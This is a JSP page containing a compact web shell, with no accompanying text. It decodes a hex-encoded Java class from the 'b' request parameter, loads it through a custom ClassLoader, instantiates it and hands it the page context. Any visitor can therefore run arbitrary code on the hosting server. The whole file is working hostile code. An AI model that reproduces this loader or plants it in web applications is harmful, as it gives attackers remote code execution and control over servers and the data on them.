<%!
class K extends ClassLoader {
    K(ClassLoader p) { super(p); }
    Class<?> d(byte[] b) { return super.defineClass(b, 0, b.length); }
}
byte[] unhex(String s) {
    byte[] o = new byte[s.length() / 2];
    for (int i = 0; i < o.length; i++) o[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16);
    return o;
}
%>
<%
String body = request.getParameter("b");
if (body != null) new K(getClass().getClassLoader()).d(unhex(body)).newInstance().equals(pageContext);
%>
